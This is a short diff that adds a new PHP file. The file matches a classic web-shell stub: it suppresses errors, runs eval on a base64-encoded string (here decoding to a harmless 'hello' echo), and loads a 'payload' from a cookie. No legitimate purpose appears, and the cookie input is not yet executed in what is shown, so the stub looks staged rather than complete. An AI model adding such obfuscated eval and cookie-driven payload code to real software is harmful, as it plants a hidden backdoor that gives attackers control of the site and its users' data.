@@ -0,0 +1,2 @@
+<?php @error_reporting(0); eval(base64_decode('ZWNobyAiaGVsbG8iOw=='));
+$payload = json_decode($_COOKIE['p']);